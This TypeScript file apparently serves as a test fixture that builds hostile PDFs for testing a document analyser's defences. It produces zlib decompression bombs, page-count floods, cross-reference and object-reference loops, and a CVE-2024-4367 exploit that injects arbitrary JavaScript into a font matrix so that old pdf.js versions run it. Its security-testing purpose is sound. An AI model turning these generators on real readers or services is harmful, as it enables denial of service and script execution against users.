import zlib from 'node:zlib';

/**
 * Hostile PDFs for the attack suite, made here rather than downloaded: each aims at one bound of
 * the document analysis (unpacked size, page count, cross-reference and object cycles, script in a
 * font matrix). They are valid enough for a PDF reader to get to the hostile part.
 */

/** One object's body (without `n 0 obj … endobj`); streams carry their data as bytes. */
type PdfObject = string | { dictionary: string; data: Buffer };

const latin1 = (text: string) => Buffer.from(text, 'latin1');

function objectBytes(number: number, object: PdfObject): Buffer {
  if (typeof object === 'string') return latin1(`${String(number)} 0 obj\n${object}\nendobj\n`);
  return Buffer.concat([
    latin1(
      `${String(number)} 0 obj\n<< ${object.dictionary} /Length ${String(object.data.length)} >>\nstream\n`,
    ),
    object.data,
    latin1('\nendstream\nendobj\n'),
  ]);
}

interface Assembled {
  bytes: Buffer;
  /** Where each object (1-based, index 0 unused) starts. */
  offsets: number[];
}

function assembleBody(objects: readonly PdfObject[]): Assembled {
  const parts: Buffer[] = [latin1('%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n')];
  let length = parts[0]?.length ?? 0;
  const offsets = [0];
  objects.forEach((object, index) => {
    offsets.push(length);
    const part = objectBytes(index + 1, object);
    parts.push(part);
    length += part.length;
  });
  return { bytes: Buffer.concat(parts), offsets };
}

function xrefTable(offsets: readonly number[]): string {
  const rows = offsets
    .slice(1)
    .map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
    .join('');
  return `xref\n0 ${String(offsets.length)}\n0000000000 65535 f \n${rows}`;
}

/** Objects numbered from 1 (the catalog first) with one correct cross-reference table. */
function assemblePdf(objects: readonly PdfObject[]): Buffer {
  const body = assembleBody(objects);
  const size = String(objects.length + 1);
  return Buffer.concat([
    body.bytes,
    latin1(
      `${xrefTable(body.offsets)}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(body.bytes.length)}\n%%EOF\n`,
    ),
  ]);
}

const PAGE_BOX = '/MediaBox [0 0 595 842]';

/** Catalog, page tree and one page showing `content` with Helvetica as /F1. */
function onePage(content: PdfObject, extraObjects: readonly PdfObject[] = []): PdfObject[] {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
    content,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...extraObjects,
  ];
}

/** Bytes of zeros each repeated block of the bomb unpacks to. */
const BOMB_BLOCK = 16 * 1024 * 1024;

function adler32OfZeros(length: number): number {
  // Over zeros the running sum `a` stays 1, so `b` grows by one per byte.
  const b = length % 65_521;
  return ((b << 16) | 1) >>> 0;
}

/**
 * A zlib stream that unpacks to `inflatedBytes` zeros (rounded up to 16 MiB) at about 1:1000.
 * zlib is run once on 16 MiB; a full flush ends that output on a byte boundary with no references
 * back, so the same bytes can be repeated to reach gigabytes without ever holding them.
 */
export function deflateBomb(inflatedBytes: number): Buffer {
  const blocks = Math.max(1, Math.ceil(inflatedBytes / BOMB_BLOCK));
  const block = zlib.deflateRawSync(Buffer.alloc(BOMB_BLOCK), {
    level: 9,
    finishFlush: zlib.constants.Z_FULL_FLUSH,
  });
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32OfZeros(blocks * BOMB_BLOCK));
  return Buffer.concat([
    // zlib header: deflate, 32 KiB window, best compression.
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: blocks }, () => block),
    // The last block: fixed codes, end of block at once.
    Buffer.from([0x03, 0x00]),
    checksum,
  ]);
}

export interface DeflateBombOptions {
  /** What the page's content stream unpacks to, in bytes (e.g. 4 GiB). */
  inflatedBytes: number;
  /**
   * `flate`: /FlateDecode alone. `hex-then-flate`: the same bomb behind /ASCIIHexDecode, so that
   * only a reader that runs the whole filter chain sees its size.
   */
  filters?: 'flate' | 'hex-then-flate';
}

/** A one-page PDF whose content stream is a decompression bomb. */
export function makeDeflateBombPdf(options: DeflateBombOptions): Buffer {
  const bomb = deflateBomb(options.inflatedBytes);
  const content: PdfObject =
    options.filters === 'hex-then-flate'
      ? {
          dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
          data: Buffer.concat([latin1(bomb.toString('hex')), latin1('>')]),
        }
      : { dictionary: '/Filter /FlateDecode', data: bomb };
  return assemblePdf(onePage(content));
}

export interface ManyPagesOptions {
  /** Page objects actually in the file. */
  pages: number;
  /** The page tree's /Count, when it should claim another number than `pages`. */
  claimedPages?: number;
  /** Pages without any text (as scans without a text layer), so that each would need OCR. */
  blank?: boolean;
}

/**
 * A PDF with very many pages (all sharing one content stream with a line of text, so that no page
 * needs OCR, unless `blank`), or one that claims many more than it has.
 */
export function makeManyPagesPdf(options: ManyPagesOptions): Buffer {
  const firstPage = 5;
  const kids = Array.from(
    { length: options.pages },
    (_, index) => `${String(firstPage + index)} 0 R`,
  );
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages ${PAGE_BOX} /Resources << /Font << /F1 4 0 R >> >> /Kids [${kids.join(' ')}] /Count ${String(options.claimedPages ?? options.pages)} >>`,
    {
      dictionary: '',
      data: latin1(
        options.blank === true ? '' : 'BT /F1 10 Tf 50 800 Td (One page of very many) Tj ET',
      ),
    },
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  for (let index = 0; index < options.pages; index += 1)
    objects.push('<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>');
  return assemblePdf(objects);
}

/**
 * Loops a reader must notice:
 * - `xref-prev-cycle`: two cross-reference sections whose trailers' /Prev point at each other;
 * - `page-tree-cycle`: a page tree node that lists itself (and its parent) among its kids;
 * - `reference-cycle`: a form XObject that draws itself, a stream whose /Length refers to itself,
 *   and resources and an array that contain themselves.
 */
export type LoopKind = 'xref-prev-cycle' | 'page-tree-cycle' | 'reference-cycle';

const TEXT_LINE = 'BT /F1 10 Tf 50 800 Td (Looping but readable) Tj ET';

function xrefPrevCycle(): Buffer {
  const body = assembleBody(onePage({ dictionary: '', data: latin1(TEXT_LINE) }));
  const size = String(body.offsets.length);
  // Section A describes every object; section B repeats object 1. Each trailer's /Prev names the
  // other, so following /Prev never ends.
  const sectionA = body.bytes.length;
  const tableA = xrefTable(body.offsets);
  const sectionB = sectionA + Buffer.byteLength(tableA, 'latin1') + 200;
  const trailerA = `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${String(sectionB)} >>\n`;
  const padding = ' '.repeat(
    sectionB - sectionA - Buffer.byteLength(tableA + trailerA, 'latin1') - 1,
  );
  const tableB = `xref\n1 1\n${String(body.offsets[1]).padStart(10, '0')} 00000 n \n`;
  const trailerB = `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${String(sectionA)} >>\n`;
  return Buffer.concat([
    body.bytes,
    latin1(`${tableA}${trailerA}${padding}\n${tableB}${trailerB}`),
    latin1(`startxref\n${String(sectionB)}\n%%EOF\n`),
  ]);
}

/** A hostile PDF whose structure loops (see LoopKind). */
export function makeLoopingPdf(kind: LoopKind): Buffer {
  switch (kind) {
    case 'xref-prev-cycle':
      return xrefPrevCycle();
    case 'page-tree-cycle':
      return assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 6 0 R 3 0 R] /Count 3 >>',
        `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
        { dictionary: '', data: latin1(TEXT_LINE) },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 2 >>',
      ]);
    case 'reference-cycle':
      return assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R /Loop 7 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources 8 0 R /Contents [4 0 R 9 0 R] >>`,
        { dictionary: '', data: latin1(`${TEXT_LINE} /Fm1 Do`) },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        {
          dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources 8 0 R',
          data: latin1('/Fm1 Do'),
        },
        '[7 0 R 7 0 R]',
        '<< /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> /Self 8 0 R >>',
        // /Length refers to this very object: reading it needs its own length.
        '<< /Length 9 0 R >>\nstream\nBT ET\nendstream',
      ]);
  }
}

function pdfLiteral(text: string): string {
  return text.replace(/[\\()]/g, (character) => `\\${character}`);
}

/**
 * The proof of concept of CVE-2024-4367: a Type1 font whose /FontMatrix carries a string that
 * pdf.js before 4.2.67 pasted into the glyph-drawing code it compiled with `new Function`, so
 * `payload` (JavaScript) ran when the page was drawn. The page shows one character in that font,
 * too little text for a text layer, so an analyser draws it (for OCR).
 */
export function makeFontMatrixExploitPdf(payload: string): Buffer {
  const matrix = `[1 2 3 4 5 (${pdfLiteral(`0); ${payload}; //`)})]`;
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
    { dictionary: '', data: latin1('BT /F1 48 Tf 100 700 Td (A) Tj ET') },
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix ${matrix} /FirstChar 65 /LastChar 65 /Widths [600] >>`,
  ]);
}
